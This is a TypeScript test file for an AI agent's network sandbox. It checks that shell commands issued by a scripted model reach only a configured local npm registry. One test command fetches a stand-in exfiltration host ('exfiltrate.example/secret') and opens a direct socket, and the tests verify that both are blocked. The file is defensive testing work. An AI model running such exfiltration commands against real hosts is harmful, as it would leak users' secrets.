/**
 * Commands that reach registries of packages and nothing else, from outside: a registry of our own on 127.0.0.1, real
 * npm, a scripted model. Nothing here leaves this machine.
 */
import { execFileSync } from "node:child_process";
import { once } from "node:events";
import { mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { join } from "node:path";
import { expect, test } from "vitest";
import { OnlyBackend, workingBackends } from "../confinement/testing/backends.ts";
import { calls, LoopWorld, step, strategy } from "./testing/loop-world.ts";

/** Serves one package, `dep`, as npm wants it. */
async function registry(directory: string): Promise<{ port: number; asked: string[] } & AsyncDisposable> {
  const source = join(directory, "package");
  mkdirSync(source);
  writeFileSync(join(source, "package.json"), JSON.stringify({ name: "dep", version: "1.0.0", main: "index.js" }));
  writeFileSync(join(source, "index.js"), "module.exports = 'from our registry';\n");
  execFileSync("tar", ["-czf", "dep.tgz", "package"], { cwd: directory });
  const tarball = readFileSync(join(directory, "dep.tgz"));
  const asked: string[] = [];
  const server = createServer((request, response) => {
    asked.push(request.url ?? "");
    if (request.url === "/dep.tgz") response.end(tarball);
    else if (request.url === "/dep")
      response.setHeader("content-type", "application/json").end(JSON.stringify(facts()));
    else response.writeHead(404).end();
  });
  server.listen(0, "127.0.0.1");
  await once(server, "listening");
  const { port } = server.address() as AddressInfo;
  const dist = { tarball: `http://127.0.0.1:${port}/dep.tgz` };
  const facts = (): object => ({
    name: "dep",
    "dist-tags": { latest: "1.0.0" },
    versions: { "1.0.0": { name: "dep", version: "1.0.0", dist } },
  });
  return { port, asked, [Symbol.asyncDispose]: async () => server.close().closeAllConnections() };
}

const INSTALL =
  "npm install --no-audit --no-fund --no-update-notifier --fetch-retries 0 dep && node -p 'require(\"dep\")'";
/** To a host that is not a registry, which goes through the proxy; then to the registry without it. */
const OUTSIDE = (port: number): string => `node -e '
fetch("http://exfiltrate.example/secret")
  .then(async (answer) => console.log(answer.status, await answer.text()))
  .catch((error) => console.log("no way: " + error.cause.code));
require("net").connect(${port}, "127.0.0.1", () => console.log("REACHED"))
  .on("error", (error) => console.log("direct: " + error.code));
'`;

async function ran(world: LoopWorld, port: number, profile: string): Promise<{ install: string; outside: string }> {
  world.script(
    strategy({ id: "fix", description: "Fix it" }),
    step("fix", calls("shell_execute", { command: INSTALL })),
    step("fix", { match: { tool: "shell_execute" }, ...calls("shell_execute", { command: OUTSIDE(port) }) }),
    step("fix", { match: { tool: "shell_execute" }, text: "Nothing to do: it was tried." }),
  );
  const { planId } = (await world.run("install it", { automationProfile: profile })) as { planId: string };
  const result = async (name: string): Promise<string> =>
    (await world.shown(planId, name)).messages.findLast(({ role }) => role === "tool")?.output ?? "";
  return { install: await result("fix.2"), outside: await result("fix.3") };
}

test.each(await workingBackends())(
  "with %s a command reaches the configured registry and nothing else",
  async (backend) => {
    using _only = new OnlyBackend(backend).here();
    await using world = new LoopWorld();
    await using served = await registry(world.directory);
    world.commit({
      "package.json": "{}\n",
      ".npmrc": `registry=http://127.0.0.1:${served.port}/\n`,
      ".gitignore": "node_modules/\n",
    });
    const key = "sandbox.registries";
    await (await world.agents()).run("config.set", { key, value: `127.0.0.1:${served.port}` });
    const { install, outside } = await ran(world, served.port, "trusted");
    expect(install).toMatch(/^exit code 0/);
    expect(install).toContain("from our registry");
    expect(served.asked).toContain("/dep.tgz");
    expect(outside).toContain("direct: ECONNREFUSED");
    expect(outside).not.toContain("REACHED");
    expect(outside).toContain("[network: exfiltrate.example:80 is not a registry");
  },
);

test("a registry that only the repository names is not reached", async () => {
  await using world = new LoopWorld();
  world.commit({ "package.json": "{}\n", ".npmrc": "registry=http://packages.invalid/\n" });
  const { install } = await ran(world, 1, "trusted");
  expect(install).not.toMatch(/^exit code 0/);
  expect(install).toContain("[network: packages.invalid:80 is a registry that only the repository names");
});

test("a profile without network reaches no registry", async () => {
  await using world = new LoopWorld();
  await using served = await registry(world.directory);
  world.commit({ "package.json": "{}\n", ".npmrc": `registry=http://127.0.0.1:${served.port}/\n` });
  const agents = await world.agents();
  const text = "name: closed\ndescription: no network\nextends: trusted\nsafety:\n  allow_unsafe_tools: false\n";
  await agents.run("automation-profile.add", { definition: { file: "closed.yaml", text } });
  const { install, outside } = await ran(world, served.port, "local/closed");
  expect(install).not.toMatch(/^exit code 0/);
  expect(outside).toContain("no way: ");
  expect(served.asked).toEqual([]);
});
